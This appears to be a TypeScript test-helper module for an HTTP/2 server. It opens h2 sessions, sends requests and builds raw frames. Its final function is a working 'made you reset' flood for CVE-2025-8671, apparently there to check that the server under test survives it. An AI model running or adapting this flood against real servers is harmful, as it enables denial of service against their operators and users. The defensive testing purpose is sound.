/**
 * HTTP/2 clients for tests: `node:http2` sessions (h2c with prior knowledge, or TLS with ALPN h2)
 * scoped to the test, a request helper on a session, and raw frames over a bare socket for what
 * no well-behaved client sends (connection-specific headers, which `node:http2` refuses to send).
 */
import { Effect } from "effect"
import type { Scope } from "effect"
import { connect as connectHttp2 } from "node:http2"
import type { ClientHttp2Session, IncomingHttpHeaders, OutgoingHttpHeaders } from "node:http2"
import { connect as connectTcp } from "node:net"
import type { Readable } from "node:stream"

/** An h2 session to `url` (`http:` prior knowledge, `https:` ALPN h2 with `ca`), closed with the scope. */
export const openSession = (
  url: string,
  options: { readonly ca?: string } = {}
): Effect.Effect<ClientHttp2Session, Error, Scope.Scope> =>
  Effect.acquireRelease(
    Effect.callback<ClientHttp2Session, Error>((resume) => {
      const session = connectHttp2(url, options.ca === undefined ? {} : { ca: options.ca, servername: "localhost" })
      session.once("connect", () => resume(Effect.succeed(session)))
      session.once("error", (error) => resume(Effect.fail(error)))
      // Errors after connecting belong to the test that provokes them; unheard they would crash it.
      session.on("error", () => undefined)
    }),
    (session) => Effect.sync(() => session.destroy())
  )

export interface H2Reply {
  readonly status: number
  readonly headers: IncomingHttpHeaders
  readonly trailers: IncomingHttpHeaders | undefined
  readonly body: Buffer
  readonly text: string
  /** The response head ended the stream (a trailers-only answer). */
  readonly endedWithHead: boolean
}

export interface H2RequestOptions {
  readonly method?: string
  readonly path?: string
  readonly headers?: OutgoingHttpHeaders
  readonly body?: string | Buffer | Readable
}

/** One request on `session`; fails with the stream's error (a reset) if it has one. */
export const h2Request = (
  session: ClientHttp2Session,
  options: H2RequestOptions = {}
): Effect.Effect<H2Reply, Error> =>
  Effect.callback<H2Reply, Error>((resume) => {
    const body = options.body
    const stream = session.request({
      ":method": options.method ?? "GET",
      ":path": options.path ?? "/",
      ...options.headers
    }, { endStream: body === undefined })
    let status = 0
    let headers: IncomingHttpHeaders = {}
    let trailers: IncomingHttpHeaders | undefined
    let endedWithHead = false
    const chunks: Array<Buffer> = []
    stream.on("response", (head, flags) => {
      status = Number(head[":status"])
      headers = head
      endedWithHead = (flags & 0x1) === 0x1
    })
    stream.on("trailers", (received) => {
      trailers = received
    })
    stream.on("data", (chunk: Buffer) => chunks.push(chunk))
    stream.on("error", (error) => resume(Effect.fail(error)))
    stream.on("close", () => {
      if (status === 0) {
        return resume(Effect.fail(new Error(`stream closed without a response (rstCode ${stream.rstCode})`)))
      }
      const all = Buffer.concat(chunks)
      resume(Effect.succeed({ status, headers, trailers, body: all, text: all.toString("utf8"), endedWithHead }))
    })
    if (typeof body === "string" || Buffer.isBuffer(body)) stream.end(body)
    else if (body !== undefined) body.pipe(stream)
    return Effect.sync(() => stream.close())
  })

/** HTTP/2 frame types the tests read. */
export const frameTypes = { data: 0x0, headers: 0x1, rstStream: 0x3, settings: 0x4, goaway: 0x7 } as const

export interface Frame {
  readonly type: number
  readonly flags: number
  readonly stream: number
  readonly payload: Buffer
}

const frame = (type: number, flags: number, stream: number, payload: Buffer): Buffer => {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head[3] = type
  head[4] = flags
  head.writeUInt32BE(stream & 0x7fffffff, 5)
  return Buffer.concat([head, payload])
}

/** An HPACK string literal, not Huffman-coded (lengths under 127). */
const literal = (text: string): Buffer => Buffer.concat([Buffer.from([text.length]), Buffer.from(text, "latin1")])

/** A header block of "literal header field without indexing — new name" entries (RFC 7541 §6.2.2). */
const headerBlock = (headers: ReadonlyArray<readonly [string, string]>): Buffer =>
  Buffer.concat(headers.map(([name, value]) => Buffer.concat([Buffer.from([0x00]), literal(name), literal(value)])))

const preface = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "latin1")

/**
 * Opens a plain connection, sends the preface, an empty SETTINGS and one HEADERS frame (stream 1,
 * END_STREAM) with `headers` exactly as given, and collects the frames the server sends back
 * until it closes or `waitMs` passes.
 */
export const rawH2Request = (
  port: number,
  headers: ReadonlyArray<readonly [string, string]>,
  waitMs = 1_000
): Effect.Effect<ReadonlyArray<Frame>, Error> =>
  Effect.callback<ReadonlyArray<Frame>, Error>((resume) => {
    const socket = connectTcp({ host: "127.0.0.1", port })
    const received: Array<Buffer> = []
    const finish = () => {
      clearTimeout(timer)
      socket.destroy()
      resume(Effect.succeed(parseFrames(Buffer.concat(received))))
    }
    const timer = setTimeout(finish, waitMs)
    socket.on("data", (chunk: Buffer) => {
      received.push(chunk)
      // Stream 1's fate is all a test asks: its response head or its reset.
      if (
        parseFrames(Buffer.concat(received)).some((frame) =>
          frame.stream === 1 && (frame.type === frameTypes.rstStream || (frame.flags & 0x1) === 0x1)
        )
      ) finish()
    })
    socket.on("close", finish)
    socket.on("error", (error) => resume(Effect.fail(error)))
    socket.on("connect", () => {
      socket.write(Buffer.concat([
        preface,
        frame(frameTypes.settings, 0, 0, Buffer.alloc(0)),
        frame(frameTypes.headers, 0x1 | 0x4, 1, headerBlock(headers))
      ]))
    })
    return Effect.sync(() => socket.destroy())
  })

const parseFrames = (bytes: Buffer): ReadonlyArray<Frame> => {
  const frames: Array<Frame> = []
  for (let at = 0; at + 9 <= bytes.length;) {
    const length = bytes.readUIntBE(at, 3)
    frames.push({
      type: bytes[at + 3] ?? 0,
      flags: bytes[at + 4] ?? 0,
      stream: bytes.readUInt32BE(at + 5) & 0x7fffffff,
      payload: bytes.subarray(at + 9, at + 9 + length)
    })
    at += 9 + length
  }
  return frames
}

/**
 * A "made you reset" flood (CVE-2025-8671) over a bare socket: stream after stream, a valid GET
 * that ends its stream, then a DATA frame on it, which the server must answer by resetting the
 * stream itself (STREAM_CLOSED, RFC 9113 §5.1). Sends batches until the server closes the connection; resolves with the
 * GOAWAY error code it sent (`undefined` if none) and how many streams were opened.
 */
export const madeYouResetFlood = (
  port: number,
  authority: string
): Effect.Effect<{ readonly goaway: number | undefined; readonly streams: number }, Error> =>
  Effect.callback((resume) => {
    const socket = connectTcp({ host: "127.0.0.1", port })
    const received: Array<Buffer> = []
    const block = headerBlock([[":method", "GET"], [":path", "/flood"], [":scheme", "http"], [":authority", authority]])
    let next = 1
    const stray = Buffer.from("x")
    const batch = () => {
      const frames: Array<Buffer> = []
      for (let i = 0; i < 50 && next < 2 ** 31 - 1; i++, next += 2) {
        frames.push(
          frame(frameTypes.headers, 0x1 | 0x4, next, block),
          frame(frameTypes.data, 0, next, stray)
        )
      }
      if (socket.writable) socket.write(Buffer.concat(frames))
    }
    const timer = setInterval(batch, 5)
    socket.on("data", (chunk: Buffer) => received.push(chunk))
    socket.on("error", () => undefined)
    socket.on("close", () => {
      clearInterval(timer)
      const goaway = parseFrames(Buffer.concat(received)).find((each) => each.type === frameTypes.goaway)
      resume(Effect.succeed({ goaway: goaway?.payload.readUInt32BE(4), streams: (next - 1) / 2 }))
    })
    socket.on("connect", () => {
      socket.write(Buffer.concat([preface, frame(frameTypes.settings, 0, 0, Buffer.alloc(0))]))
      batch()
    })
    return Effect.sync(() => {
      clearInterval(timer)
      socket.destroy()
    })
  })
